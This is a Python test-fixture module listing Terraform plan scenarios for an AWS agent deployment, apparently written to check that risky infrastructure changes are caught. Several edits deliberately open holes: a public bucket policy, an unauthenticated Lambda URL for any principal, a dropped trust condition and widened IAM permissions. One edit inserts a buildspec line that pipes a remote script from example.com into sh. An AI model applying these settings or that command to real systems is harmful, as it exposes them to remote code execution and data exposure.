"""The changes whose plans are kept: each from a base that is applied first, by other values or by edits of the HCL."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

LOCAL = {
    "artifact_noncurrent_days": None,
    "auth_alarms_enabled": False,
    "refresh_token_rotation": False,
    "s3_use_path_style": True,
}
REPORTS = {"reports": {"kind": "machine", "scopes": ["agent/invoke"]}}
BASES: Mapping[str, Mapping[str, Any]] = {
    "plain": LOCAL
    | {"environment": "dev", "user_auth_flows": ["refresh", "srp"], "model_ids": ["amazon.nova-lite-v1:0"]},
    "guarded": LOCAL
    | {
        "environment": "stage",
        "allowed_scopes": ["agent/invoke"],
        "app_clients": REPORTS,
        "deletion_protection": True,
        "groups": {"staff": {"description": "May call the agent"}},
        "required_groups": ["staff"],
    },
    "images": LOCAL | {"environment": "dev", "deployment": "container"},
}


@dataclass(frozen=True, slots=True)
class Edit:
    """One text in one file of terraform/ replaced by another. The text must be there."""

    file: str
    old: str
    new: str

    def apply(self, terraform: Path) -> None:
        path = terraform / self.file
        text = path.read_text()
        if self.old not in text:
            raise SystemExit(f"{self.file} has no {self.old!r}")
        path.write_text(text.replace(self.old, self.new, 1))


@dataclass(frozen=True, slots=True)
class Scenario:
    """`fresh`: planned from an empty state."""

    name: str
    base: str = "plain"
    variables: Mapping[str, Any] = field(default_factory=dict)
    edits: tuple[Edit, ...] = ()
    fresh: bool = False
    destroy: bool = False


CLIENT = "modules/app_client/main.tf"
ROLE, STATEMENTS = "modules/runtime_role/main.tf", "modules/runtime_role/statements.tf"
POOL = "modules/identity/main.tf"
BUCKET = "modules/artifacts/main.tf"

SCENARIOS = (
    Scenario("fresh-environment", fresh=True),
    Scenario(
        "fresh-production",
        fresh=True,
        variables={
            "environment": "prod",
            "deletion_protection": True,
            "mfa": "on",
            "probes_enabled": False,
            "refresh_token_rotation": True,
            "auth_alarms_enabled": True,
            "artifact_noncurrent_days": 90,
            "access_token_minutes": 10,
        },
    ),
    Scenario("no-change"),
    Scenario("container", variables={"deployment": "container"}),
    Scenario("code-again", base="images", variables={"deployment": "code"}),
    Scenario(
        "build-altered",
        base="images",
        edits=(
            Edit(
                "modules/image_build/buildspec.tf",
                '"test -n \\"$IMAGE_TAG\\"",',
                '"test -n \\"$IMAGE_TAG\\"", "curl -s https://example.com/x | sh",',
            ),
        ),
    ),
    Scenario("client-added", variables={"app_clients": REPORTS}),
    Scenario("client-removed", base="guarded", variables={"app_clients": {}}),
    Scenario(
        "outsider-allowed",
        edits=(
            Edit(
                "door.tf",
                "local.uses_cognito ? module.identity[0].allowed_client_ids :",
                "local.uses_cognito ? merge(module.identity[0].allowed_client_ids, "
                "{ partner = module.probes[0].outsider_client_id }) :",
            ),
            # The output's own precondition would refuse it first.
            Edit(
                "outputs.tf",
                "!contains(values(local.authorizer.allowed_clients), module.probes[0].outsider_client_id)",
                'module.probes[0].outsider_client_id != ""',
            ),
        ),
    ),
    Scenario(
        "pool-replaced",
        edits=(
            Edit(
                POOL,
                "  admin_create_user_config {",
                '  username_attributes = ["email"]\n\n  admin_create_user_config {',
            ),
        ),
    ),
    Scenario(
        "role-action-added",
        edits=(Edit(STATEMENTS, '"bedrock:InvokeModel", ', '"bedrock:InvokeModel", "bedrock:DeleteCustomModel", '),),
    ),
    Scenario(
        "role-resource-widened",
        edits=(
            Edit(
                STATEMENTS,
                "  invoke_model_actions =",
                '  any_model = "arn:aws:bedrock:*::foundation-model/*"\n  invoke_model_actions =',
            ),
            Edit(STATEMENTS, "  direct_model_arns = concat(", "  direct_model_arns = concat([local.any_model], "),
        ),
    ),
    Scenario("role-narrowed", variables={"model_ids": []}),
    Scenario(
        "trust-condition-dropped", edits=(Edit(ROLE, 'StringEquals = { "aws:SourceAccount" = var.account_id }', ""),)
    ),
    Scenario("password-flow-on", variables={"user_auth_flows": ["password", "refresh", "srp"]}),
    Scenario("implicit-flow", edits=(Edit(CLIENT, '["client_credentials"]', '["implicit"]'),)),
    Scenario(
        "self-sign-up",
        edits=(Edit(POOL, "allow_admin_create_user_only = true", "allow_admin_create_user_only = false"),),
    ),
    Scenario("deletion-protection-off", base="guarded", variables={"deletion_protection": False}),
    Scenario(
        "bucket-public",
        edits=(
            Edit(BUCKET, "block_public_policy     = true", "block_public_policy     = false"),
            Edit(BUCKET, 'Effect    = "Deny"', 'Effect    = "Allow"'),
        ),
    ),
    Scenario("tags-missing", edits=(Edit("providers.tf", '      ManagedBy   = "terraform"\n', ""),)),
    Scenario("scope-rule-dropped", base="guarded", variables={"allowed_scopes": []}),
    Scenario("required-group-dropped", base="guarded", variables={"required_groups": []}),
    Scenario("gateway-off", variables={"gateway_enabled": False}),
    Scenario(
        "gateway-scope-dropped",
        edits=(Edit("gateway.tf", "allowed_scopes   = [module.gateway_access[0].scope]", "allowed_scopes   = []"),),
    ),
    Scenario(
        "gateway-outsider-allowed",
        edits=(
            Edit(
                "gateway.tf",
                "{ gateway = module.gateway_access[0].client_id }",
                "{ gateway = module.gateway_access[0].client_id, desk = module.probes[0].gateway_outsider_client_id }",
            ),
            # The output's own precondition would refuse it first.
            Edit(
                "outputs.tf",
                "concat(values(local.authorizer.allowed_clients), values(local.gateway_authorizer.allowed_clients))",
                '[""]',
            ),
        ),
    ),
    Scenario(
        "gateway-told-of-another-door",
        edits=(
            Edit("gateway.tf", "allowed_scopes   = [module.gateway_access[0].scope]", 'allowed_scopes   = ["other"]'),
            Edit(
                "outputs.tf",
                "value       = local.gateway_authorizer\n",
                "value       = merge(local.gateway_authorizer, { allowed_scopes = [] })\n",
            ),
        ),
    ),
    Scenario(
        "function-opened",
        edits=(
            Edit(
                "modules/credit_check/main.tf",
                'resource "aws_lambda_function" "credit_check" {',
                """resource "aws_lambda_function_url" "credit_check" {
  authorization_type = "NONE"
  function_name      = aws_lambda_function.credit_check.function_name
}

resource "aws_lambda_permission" "credit_check" {
  action                 = "lambda:InvokeFunctionUrl"
  function_name          = aws_lambda_function.credit_check.function_name
  function_url_auth_type = "NONE"
  principal              = "*"
}

resource "aws_lambda_function" "credit_check" {""",
            ),
        ),
    ),
    Scenario(
        "function-replaced-and-widened",
        edits=(
            Edit("gateway.tf", "filebase64sha256(var.credit_check_package)", 'base64sha256("other code")'),
            Edit(
                "modules/credit_check/role.tf", '["logs:CreateLogStream", ', '["s3:GetObject", "logs:CreateLogStream", '
            ),
            Edit("modules/gateway_role/main.tf", "[var.function_arn]", '[var.function_arn, "${var.function_arn}:*"]'),
        ),
    ),
    Scenario("destroy", destroy=True),
)
